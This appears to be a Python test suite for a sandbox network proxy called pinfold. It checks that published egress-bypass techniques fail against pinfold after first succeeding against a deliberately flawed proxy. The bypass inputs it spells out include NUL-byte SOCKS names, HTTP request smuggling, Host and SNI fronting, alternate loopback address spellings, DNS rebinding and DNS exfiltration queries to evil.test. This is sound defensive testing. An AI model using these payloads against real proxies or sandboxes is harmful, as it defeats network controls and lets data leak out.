"""Ways past the egress of other sandboxes, as published: each first gets through a proxy with the same mistake, then not through pinfold.

    an empty list that meant everything       CVE-2025-66479
    a NUL within a SOCKS name                  parser differential of a proxy (its checks and the C library read different names)
    names that only end like an allowed one, user information, other spellings of denied names and of this machine's addresses
    a name that changes between look and dial  DNS rebinding
    names asked of the resolver as a way out   DNS exfiltration
    another host within an allowed connection  domain fronting, in what is not encrypted or said in the clear
"""
import glob
import os
import re
import shutil
import socket
import subprocess
import sys
import time

HERE = os.environ["PINFOLD_SCRATCH"] + "/clients"  # see run: main()
RAW = f"python3 -IS {HERE}/raw.py"
NAIVE = 8500  # and the four ports after it: one for each mistake
ENDS, DENIED, LOCAL, RESOLVED, EMPTY = range(NAIVE, NAIVE + 5)
JAVA, JAVA_TLS, GO, FIRST_AT = 8451, 8452, 8453, 8454  # Servers.java, tls.go, first.py
GET = r"'GET /f HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n'"
FIRST = r"'GET /g HTTP/1.1\r\nHost: ok.test\r\n\r\n'"
SMUGGLED = r"'POST http://ok.test:8099/ HTTP/1.1\r\nHost: ok.test:8099\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /f HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n'"

ANY_METHOD = """
import http.server, sys, time
class Handler(http.server.BaseHTTPRequestHandler):
    def parse_request(self):  # as behind a balancer: the PROXY protocol may come first
        if self.raw_requestline.startswith(b"PROXY "):
            self.raw_requestline = self.rfile.readline(65537)
        elif self.raw_requestline == b"\\r\\n":
            self.rfile.read(2 + 8 + 16 - 2)
            self.raw_requestline = self.rfile.readline(65537)
        return super().parse_request()
    def do_LATE(self):
        self.close_connection = False
        self.wfile.write(b"HTTP/1.1 200 OK\\r\\nContent-Length: 24\\r\\n\\r\\n")
        time.sleep(1)
        self.wfile.write(b"HTTP/1.1 101 is a body.\\n")
    def do_SAY101(self):  # as a page that answers with whatever status it is asked for: the connection goes on as it was
        self.close_connection = False
        self.wfile.write(b"HTTP/1.1 101 Switching Protocols\\r\\n\\r\\n")
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
    def do_SHELL(self):  # a terminal after an Upgrade: it prompts, and its lines end with a carriage return
        self.wfile.write(b"HTTP/1.1 101 Switching Protocols\\r\\n\\r\\n$ ")
        while self.rfile.read(1) not in (b"\\r", b""):
            pass
        self.wfile.write(b"hello\\n")
    def do_PURGE(self):  # and an answer that nobody asked for, which a client could take for that of another host
        self.close_connection = False
        self.wfile.write(b"HTTP/1.1 200 OK\\r\\nContent-Length: 6\\r\\n\\r\\nfirst\\nHTTP/1.1 200 OK\\r\\nContent-Length: 6\\r\\n\\r\\nhello\\n")
    def do_NONE(self):
        self.close_connection = False
        self.wfile.write(b"HTTP/1.1 204 No Content\\r\\n\\r\\n")
    def __getattr__(self, name):
        if not name.startswith("do_"):
            raise AttributeError(name)
        return lambda: self.wfile.write(b"HTTP/1.1 200 OK\\r\\nContent-Length: 6\\r\\n\\r\\nhello\\n")
http.server.ThreadingHTTPServer((sys.argv[1], 8449), Handler).serve_forever()
"""


def table(t):
    """name, flags, which mistake, command with PORT for the proxy's port"""
    ok, below, any_host = t.allow, ["--allow", "*.ok.test", *t.exact], ["--allow", "*", "--deny", "other.test", *t.exact]
    local = ["--allow", "*"]
    rows = [
        ("empty-list", ["--net", "allow"], EMPTY, f"{RAW} PORT connect other.test:8099 {GET}"),
        ("nul-in-socks-name", below, ENDS, rf"{RAW} PORT socks 'other.test\x00.ok.test:8099' {GET}"),
        ("nul-in-connect", below, ENDS, rf"{RAW} PORT connect 'other.test\x00.ok.test:8099' {GET}"),
        ("longer-name", ok, ENDS, f"{RAW} PORT connect evilok.test:8099 {GET}"),
        ("user-information", ok, ENDS, rf"{RAW} PORT send x 'GET http://ok.test:x@other.test:8099/f HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n'"),
        ("denied-in-capitals", any_host, DENIED, f"{RAW} PORT connect OTHER.Test:8099 {GET}"),
        ("denied-with-a-dot", any_host, DENIED, f"{RAW} PORT connect other.test.:8099 {GET}"),
        ("denied-with-a-dot-by-socks", any_host, DENIED, f"{RAW} PORT socks OTHER.test.:8099 {GET}"),
        ("name-that-changes", ["--allow", "flip.test", *t.exact], RESOLVED, f"{RAW} PORT connect flip.test:8097 {GET}"),
        ("other-host-in-a-tunnel", ok, ENDS, f"{RAW} PORT connect ok.test:8099 {GET}"),
        ("other-host-in-a-socks-tunnel", ok, ENDS, f"{RAW} PORT socks ok.test:8099 {GET}"),
        ("other-host-field", ok, ENDS, rf"{RAW} PORT send x 'GET http://ok.test:8099/f HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n'"),
        ("other-host-in-a-second-request", ok, ENDS, f"{RAW} PORT connect ok.test:8099 {FIRST} {GET}"),
        ("smuggled-request", ok, ENDS, f"{RAW} PORT send x {SMUGGLED}"),
        ("other-tls-name-in-a-tunnel", ok, ENDS, "echo | timeout 8 openssl s_client -proxy 127.0.0.1:PORT -connect ok.test:8443 -servername other.test 2>&1 | grep -qE 'CN ?= ?ok.test' && echo hello"),
    ]
    other = r"Host: other.test\r\nConnection: close\r\n\r\n'"
    v2 = r"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c0123456789ab"
    rows += [("other-host-behind-" + name, ok, ENDS, f"{RAW} PORT connect ok.test:{port} '{start}{other}")
             for name, port, start in (("a-scheme", 8448, r"GET x://ok.test/f HTTP/1.1\r\n"), ("a-query", 8449, r"GET ?q HTTP/1.1\r\n"),
                                       ("the-proxy-protocol", 8449, r"PROXY TCP4 203.0.114.7 203.0.114.7 1 2\r\nGET /f HTTP/1.1\r\n"),
                                       ("the-proxy-protocol-2", 8449, v2 + r"GET /f HTTP/1.1\r\n"),
                                       ("no-method", 8449, r"\x01\x02 f HTTP/1.1\r\n"), ("rtsp", 8448, r"DESCRIBE rtsp://ok.test/f RTSP/1.0\r\n"),
                                       ("icecast", 8448, r"SOURCE f ICE/1.0\r\n".replace(" f ", " /f ")), ("no-version", JAVA, r"FOO /f bar\r\n"),
                                       ("no-version-and-fields", JAVA, r"FOO /f bar\r\nX: y\r\n"), ("http-0.9", 8449, r"GET f\r\n"))]
    rows.append(("other-host-behind-a-request-without-a-version", ok, ENDS, rf"{RAW} PORT connect ok.test:{JAVA} 'pause=FOO /f bar\r\nHost: ok.test\r\n\r\nGET /f HTTP/1.1\r\n' '{other}"))
    for port, kind in ((GO, "go"), (JAVA_TLS, "java")):
        rows.append((f"other-tls-name-behind-a-major-version-{kind}", ok, ENDS, f"{RAW} PORT connect ok.test:{port} tls=other.test/major"))
    rows.append(("plain-bytes-at-443", ok, ENDS, f"{RAW} PORT connect ok.test:443 '{r'GET /f HTTP/1.1'}{chr(92)}r{chr(92)}n{other.replace('other.test', 'ok.test')}"))
    rows.append(("tls-at-80", ok, ENDS, f"{RAW} PORT connect ok.test:80 tls=ok.test/pieces"))
    rows.append(("plain-request-for-443", ok, ENDS, rf"{RAW} PORT send x 'GET http://ok.test:443/f HTTP/1.1\r\nHost: ok.test:443\r\nConnection: close\r\n\r\n'"))
    for name, port, start in (("tabs", 8099, r"GET\t/f\tHTTP/1.1\r\n"), ("an-empty-line-first", 8448, r"\r\nGET /f HTTP/1.1\r\n"),
                              ("many-empty-lines-first", 8448, r"\r\n\r\n\r\nGET /f HTTP/1.1\r\n"), ("a-rare-method", 8448, r"ACL /f HTTP/1.1\r\n"),
                              ("a-space-first", 8099, r" GET /f HTTP/1.1\r\n"), ("a-method-of-its-own", 8449, r"1GET /f HTTP/1.1\r\n"), ("a-long-method", 8449, "M" * 100 + r" /f HTTP/1.1\r\n")):
        rows.append(("other-host-behind-" + name, ok, ENDS, f"{RAW} PORT connect ok.test:{port} '{start}{other}"))
    rows.append(("other-host-in-two-pieces", ok, ENDS, rf"{RAW} PORT connect ok.test:8448 pause='GE' 'T /f HTTP/1.1\r\n{other}"))
    rows.append(("other-host-behind-a-long-method-in-pieces", ok, ENDS, rf"{RAW} PORT connect ok.test:8449 pause={'M' * 60} {'M' * 60}' /f HTTP/1.1\r\n{other}"))
    rows.append(("other-host-behind-a-body-like-an-upgrade", ok, ENDS, rf"{RAW} PORT connect ok.test:8449 'pause=LATE / HTTP/1.1\r\nHost: ok.test\r\n\r\n' "
                 rf"'pause=NONE / HTTP/1.1\r\nHost: ok.test\r\nConnection: upgrade\r\nUpgrade: x\r\n\r\n' 'GET /f HTTP/1.1\r\n{other}"))
    rows.append(("other-host-in-a-target-of-http-1.0", ok, ENDS, rf"{RAW} PORT connect ok.test:8448 'GET http://other.test:8448/f HTTP/1.0\r\n\r\n'"))
    rows.append(("other-host-in-a-second-target-of-http-1.0", ok, ENDS, rf"{RAW} PORT connect ok.test:8449 'pause=NONE / HTTP/1.1\r\nHost: ok.test\r\n\r\n' "
                 r"'GET http://other.test:8449/f HTTP/1.0\r\n\r\n'"))
    for name, fields, body in (("", r"Connection: x, Upgrade\r\nUpgrade: x\r\n", ""), ("-of-this-hop", r"Upgrade: x\r\n", ""),
                               ("-and-a-body", r"Connection: upgrade\r\nUpgrade: x\r\nContent-Length: 9\r\n", "1 2 3 4 5")):
        rows.append((f"other-host-behind-an-upgrade-without-a-change{name}", ok, ENDS,
                     rf"{RAW} PORT connect ok.test:8449 'pause=SAY101 / HTTP/1.1\r\nHost: ok.test\r\n{fields}\r\n{body}' 'GET /f HTTP/1.1\r\n{other}"))
    rows.append(("answer-that-was-not-asked-for", ok, ENDS, rf"{RAW} PORT send x 'PURGE http://ok.test:8449/ HTTP/1.1\r\nHost: ok.test:8449\r\n\r\n'"))
    for how in ("version", "pieces"):
        rows.append(("other-tls-name-behind-an-odd-record-" + how, ok, ENDS, f"{RAW} PORT connect ok.test:8443 tls=other.test/{how}"))
    rows.append(("other-tls-name-in-a-second-hello", ok, ENDS, f"{RAW} PORT connect ok.test:8450 twice=ok.test/other.test"))
    for spelt in ("127.1", "0x7f.1", "0x7f000001", "2130706433", "0177.0.0.1", "127.0.0.1.", "127.9.9.9", "0", "[::ffff:127.0.0.1]", "loop.test", "localhost."):
        rows.append(("this-machine-as-" + spelt.replace("[", "").replace("]", "").replace(":", "_"), local, LOCAL, f"{RAW} PORT connect '{spelt}:8099' {GET}"))
    return rows


def loose_servers(t):
    """Java's and Go's servers, and what listens at 443 and 80 where another protocol belongs; those that are not there, by their port."""
    go, absent = find("go", "/usr/lib/go-*/bin/go"), set()
    cache = dict(os.environ, CGO_ENABLED="0", GOCACHE=t.scratch + "/go-cache", GOPATH=t.scratch + "/go", GO111MODULE="off")
    key, cert, store = t.scratch + "/key", t.scratch + "/cert", t.scratch + "/keys.p12"
    started = [[sys.executable, HERE + "/first.py", t.public, str(FIRST_AT), key, cert],
               ["openssl", "s_server", "-quiet", "-accept", t.public + ":80", "-key", key, "-cert", cert, "-www"],
               ["openssl", "s_server", "-quiet", "-accept", t.private + ":443", "-key", key, "-cert", cert, "-www"]]
    if go and subprocess.run([go, "build", "-o", "tls-go", HERE + "/tls.go"], env=cache, check=False).returncode == 0:
        started.append(["./tls-go", f"{t.public}:{GO}", key, cert])
    else:
        absent.add(GO)
    if find("javac") and subprocess.run(["javac", "-J-XX:TieredStopAtLevel=1", "-J-XX:+UseSerialGC", "-d", ".", HERE + "/Servers.java"], stderr=subprocess.DEVNULL, check=False).returncode == 0:
        subprocess.run(["openssl", "pkcs12", "-export", "-inkey", key, "-in", cert, "-out", store, "-passout", "pass:pinfold"], check=True)
        started.append(["java", "-XX:TieredStopAtLevel=1", "-cp", ".", "Servers", t.public, str(JAVA), str(JAVA_TLS), store])
    else:
        absent |= {JAVA, JAVA_TLS}
    return [subprocess.Popen(a, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for a in started], absent


def find(name, pattern=None):
    return shutil.which(name) or next(iter(glob.glob(pattern)) if pattern else iter(()), None)


def works(t):
    """What a stricter look must not break: the protocol that belongs to a port, another one where a rule says so, a server that speaks first."""
    ok, private = t.allow, ["--allow", "private.test", "--allow", t.private + "/32"]
    bare = "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY "
    first = f"{RAW} direct"
    return [
        ("http-at-80", private, bare + "curl -sS -m 60 http://private.test/", "hello"),
        ("http-at-80-by-proxy", private, "curl -sS -m 60 http://private.test/", "hello"),
        ("http2-at-80", private, bare + "curl --http2-prior-knowledge -sS -m 60 http://private.test/", None),
        ("tls-at-443", private, bare + "curl -k -sS -m 60 https://private.test/ | grep -q Ciphers && echo hello", "hello"),
        ("tls-at-443-by-proxy", private, "curl -k -sS -m 60 https://private.test/ | grep -q Ciphers && echo hello", "hello"),
        ("plain-bytes-at-443-said", ["--allow", "ok.test:443/tcp", *t.exact], bare + "curl -sS -m 60 http://ok.test:443/", "hello"),
        ("plain-request-for-443-said", ["--allow", "ok.test:443/tcp", *t.exact], "curl -sS -m 60 http://ok.test:443/", "hello"),
        ("tls-at-80-said", ["--allow", "ok.test:80/tcp", *t.exact], bare + "curl -k -sS -m 60 https://ok.test:80/ | grep -q Ciphers && echo hello", "hello"),
        ("server-that-speaks-first", ok, bare + f"{first} ok.test:{FIRST_AT} '' '\\x16\\x01\\x00\\x01 a login\\n'", "hello"),
        ("postgres-tls", ok, bare + f"{first} ok.test:{FIRST_AT + 1} 'pg=ok.test'", "hello"),
        ("postgres-tls-for-another", ok, bare + f"{first} ok.test:{FIRST_AT + 1} 'pg=other.test'", False),
        ("http-1.0-without-a-host-by-proxy", ok, rf"P=${{http_proxy:+61080}}; {RAW} ${{P:-{NAIVE}}} send x 'GET http://ok.test:8448/f HTTP/1.0\r\n\r\n'", "hello"),
        ("request-after-an-answer-and-more", ok, rf"P=${{http_proxy:+61080}}; {RAW} ${{P:-{NAIVE}}} send x 'PURGE http://ok.test:8449/ HTTP/1.1\r\nHost: ok.test:8449\r\n\r\n' "
         rf"'GET http://ok.test:8448/f HTTP/1.1\r\nHost: ok.test:8448\r\n\r\n'", "hello"),
        ("terminal-after-an-upgrade", ok, bare + rf"{first} ok.test:8449 'SHELL / HTTP/1.1\r\nHost: ok.test\r\nConnection: upgrade\r\nUpgrade: tcp\r\n\r\n' '' 'ls /tmp\r'", "hello"),
        ("text-client-first", ok, bare + f"{first} ok.test:{FIRST_AT + 2} 'set key 0 0\\r\\n'", "hello"),
        ("tls-without-a-name-to-an-address", t.exact, bare + f"curl -k -sS -m 60 https://{t.public}:8443/ | grep -q Ciphers && echo hello", False),
        ("tls-without-a-name-to-an-address-said", ["--allow", t.public + ":8443/tcp"], bare + f"curl -k -sS -m 60 https://{t.public}:8443/ | grep -q Ciphers && echo hello", "hello"),
    ]


def ports(t):
    for name, flags, command, good in works(t):
        outside = t.outside(command)
        if good is None and "hello" not in outside:
            continue
        if "hello" not in outside:
            t.report("bypasses/" + name, False, "does not work outside either: " + outside[-2000:])
            continue
        status, out = t.box(flags, command)
        t.report("bypasses/" + name, ("hello" in out) == (good is not False), (status, out[-2000:]))
    for name, flags, command, words in (("told-443", t.allow, "curl --noproxy '*' -sS -m 60 http://ok.test:443/", "only TLS may flow on port 443); allow other protocols with --allow ok.test:443/tcp"),
                                        ("told-80", t.allow, "curl -k --noproxy '*' -sS -m 60 https://ok.test:80/", "only HTTP may flow on port 80); allow other protocols with --allow ok.test:80/tcp"),
                                        ("address-beside-a-denied-name", ["--allow", "*", "--deny", "other.test"], f"curl --noproxy '*' -sS -m 60 http://{t.public}:8448/", "denied (default); allow with --allow " + t.public)):
        done = subprocess.run([t.pinfold, "run", *flags, "--", "sh", "-c", command], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=90, check=False)
        out = done.stdout.decode("utf-8", "replace")
        t.report("bypasses/" + name, words in out and "hello" not in out, out[-2000:])


def run(t):
    node = subprocess.Popen(["node", "-e", f"for (const [p, a] of [[8448, '{t.public}'], [443, '{t.public}'], [80, '{t.private}']]) require('http').createServer((q, r) => r.end('hello\\n')).listen(p, a)"], stdin=subprocess.DEVNULL)
    retries = subprocess.Popen(["openssl", "s_server", "-quiet", "-accept", t.public + ":8450", "-key", t.scratch + "/key", "-cert", t.scratch + "/cert", "-tls1_3", "-groups", "P-384", "-www"],
                               stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    any_method = subprocess.Popen([sys.executable, "-c", ANY_METHOD, t.public], stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    naive = subprocess.Popen([sys.executable, HERE + "/naive.py", str(NAIVE)], stdin=subprocess.DEVNULL)
    loose, absent = loose_servers(t)
    try:
        for port in {JAVA, JAVA_TLS, GO, FIRST_AT} - absent:
            listens(t.public, port)
        for _ in range(600):
            try:
                socket.create_connection(("127.0.0.1", NAIVE + 4), timeout=1).close()
                socket.create_connection((t.public, 8448), timeout=1).close()
                socket.create_connection((t.public, 8449), timeout=1).close()
                break
            except OSError:
                time.sleep(0.1)
        for name, flags, mistake, command in table(t):
            if any(f":{port}" in command for port in absent):
                t.skip("bypasses/" + name, "it takes golang-go and default-jdk-headless")
                continue
            t.flip()
            out = t.outside(command.replace("PORT", str(mistake)) + " 2>&1")
            if "hello" not in out:
                t.report("bypasses/" + name, False, "does not get through a proxy with the mistake either: " + out[-2000:])
                continue
            t.flip()
            status, out = t.box(flags, "timeout 20 sh -c " + quote(command.replace("PORT", "61080")) + " 2>&1; echo \"== $?\"")
            t.report("bypasses/" + name, "hello" not in out and "== 124" not in out and "can't open file" not in out, (status, out[-2000:]))
        _, out = t.box(t.allow, "echo | timeout 20 openssl s_client -groups P-256:P-384 -connect ok.test:8450 -servername ok.test 2>&1; echo \"== $?\"")
        t.report("bypasses/second-hello-of-the-same-name", re.search("CN ?= ?ok.test", out) and "== 0" in out, out[-2000:])
        resolver(t)
        ports(t)
    finally:
        for p in (naive, node, any_method, retries, *loose):
            p.terminate()
            p.wait()


def listens(address, port):
    for _ in range(900):
        with socket.socket() as s:
            if s.connect_ex((address, port)) == 0:
                return
        time.sleep(0.1)
    raise TimeoutError(f"nothing listens at {address}:{port}")


def resolver(t):
    """What is asked of the box's resolver goes nowhere, allowed or not."""
    ask = ("python3 -c \"import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)\n"
           "q = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + b''.join(bytes((len(x),)) + x.encode() for x in sys.argv[3].split('.')) + b'\\0\\0\\x01\\0\\x01'\n"
           "s.sendto(q, (sys.argv[1], int(sys.argv[2]))); print(len(s.recv(999)))\"")
    t.outside(f"{ask} 127.0.0.1 {NAIVE + 9} secret1.evil.test")
    if "secret1.evil.test" not in t.asked():
        t.report("bypasses/resolver", False, "a resolver that passes questions on does not show it either")
        return
    flags = ["--allow", "*.ok.test", *t.exact]
    _, out = t.box(flags, f"{ask} 127.53.53.53 53 secret2.evil.test; {ask} 127.53.53.53 53 secret3.ok.test; "
                   f"{ask} 127.0.0.1 53 secret4.evil.test; {ask} {t.public} 53 secret5.evil.test; getent hosts secret6.evil.test; getent hosts secret7.ok.test")
    seen = [name for name in t.asked() if name.startswith("secret") and not name.startswith("secret1")]
    t.report("bypasses/resolver", not seen and "Traceback" in out, (seen, out[-2000:]))


def quote(command):
    return "'" + command.replace("'", "'\\''") + "'"
